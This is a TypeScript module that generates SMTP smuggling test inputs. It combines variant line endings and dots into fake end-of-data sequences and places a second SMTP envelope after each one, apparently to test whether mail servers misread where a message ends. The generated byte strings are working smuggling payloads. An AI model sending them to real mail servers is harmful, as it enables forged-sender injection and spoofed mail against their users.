/**
 * Every end-of-data trick that SMTP smuggling is made of: {line end} x {dot} x {line end}, put into a message in front of
 * the commands of a second message.
 *
 * Only CRLF.CRLF ends DATA (RFC 5321 §4.1.1.4). A server that reads anything else as an end finds a second envelope
 * there; one that passes such bytes on lets the next hop find it. The tricks are generated, not listed: whoever thinks of a
 * new line end adds one token.
 */

/** What a server somewhere may take for a line end, or may drop and so make one. */
const lineEnds = [
  '',
  '\r',
  '\n',
  '\r\n',
  '\r\r',
  '\n\n',
  '\n\r',
  '\r\r\n',
  '\r\n\n',
  '\r\n\r',
  '\0',
  '\r\0',
  '\0\n',
  '\r\0\n',
  '\r\n\0',
  // NEL and VT: line ends for whoever splits lines by Unicode or by isspace.
  '\x85',
  '\v',
] as const

/** A dot alone, stuffed (a second un-stuffing makes it alone), and beside what a server may trim. */
const dots = ['.', '..', '.\0', '\0.', '.\r', '. ', '\b.'] as const

export interface SmugglingAttempt {
  /** The trick as a JavaScript string literal. */
  readonly name: string
  /** Everything behind the 354: first message, trick, second message, CRLF.CRLF. */
  readonly wire: Buffer
  /** Offset inside the trick at which a client may split its writes. */
  readonly splitAt: number
  /** The first message as RFC 5321 reads it, up to and with its CRLF. */
  readonly first: Buffer
  /** `first` has no bare CR, bare LF or NUL. */
  readonly clean: boolean
}

const endOfData = Buffer.from('\r\n.\r\n')

/** All combinations, or those with the given dots. `recipient` of the second message, `mark` in its subject and in that of the first. */
export function* smugglingAttempts(
  recipient: string,
  ends: readonly string[] = dots,
): Generator<SmugglingAttempt> {
  let number = 0
  for (const before of lineEnds)
    for (const dot of ends)
      for (const after of lineEnds) yield attempt(before, dot, after, `trick-${number++}`, recipient)
}

function attempt(
  before: string,
  dot: string,
  after: string,
  mark: string,
  recipient: string,
): SmugglingAttempt {
  const opening = `From: <first@client.test>\r\nSubject: ${mark} first\r\n\r\nThe first message.`
  const second =
    `MAIL FROM:<second@client.test>\r\nRCPT TO:<${recipient}>\r\nDATA\r\n` +
    `From: <second@client.test>\r\nSubject: ${mark} second\r\n\r\nThe second message.`
  const wire = Buffer.from(`${opening}${before}${dot}${after}${second}\r\n.\r\n`, 'latin1')
  const first = wire.subarray(0, wire.indexOf(endOfData) + 2)
  return {
    name: JSON.stringify(before + dot + after),
    wire,
    splitAt: opening.length + before.length + dot.length,
    first,
    clean: !/\0|\r(?!\n)|(?<!\r)\n/.test(first.toString('latin1')),
  }
}
